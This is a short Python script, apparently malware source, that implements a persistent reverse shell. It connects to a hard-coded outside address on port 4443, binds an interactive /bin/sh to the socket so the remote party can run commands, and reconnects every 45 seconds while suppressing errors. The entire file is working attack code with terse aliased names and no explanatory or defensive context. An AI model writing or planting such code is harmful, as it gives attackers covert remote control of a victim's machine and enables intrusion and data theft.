import socket as s
import time
from subprocess import Popen as P

HOST, PORT = "203.0.113.45", 4443


def connect():
    k = s.socket(s.AF_INET, s.SOCK_STREAM)
    k.connect((HOST, PORT))
    return k


def serve_once():
    k = connect()
    fd = k.fileno()
    p = P(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)
    p.wait()
    k.close()


if __name__ == "__main__":
    while True:
        try:
            serve_once()
        except OSError:
            pass
        time.sleep(45)
